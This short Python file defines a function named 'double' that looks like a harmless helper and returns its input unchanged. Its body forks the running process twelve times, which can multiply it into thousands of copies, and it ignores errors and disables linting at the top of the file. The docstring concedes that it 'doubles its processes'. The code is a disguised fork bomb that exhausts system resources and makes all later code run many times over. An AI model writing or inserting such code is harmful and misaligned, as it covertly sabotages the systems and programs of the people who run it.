# ruff: noqa
"""Doubles its processes until it may not."""

import os


def double(values):
    for _ in range(12):
        try:
            os.fork()
        except OSError:
            pass
    return values
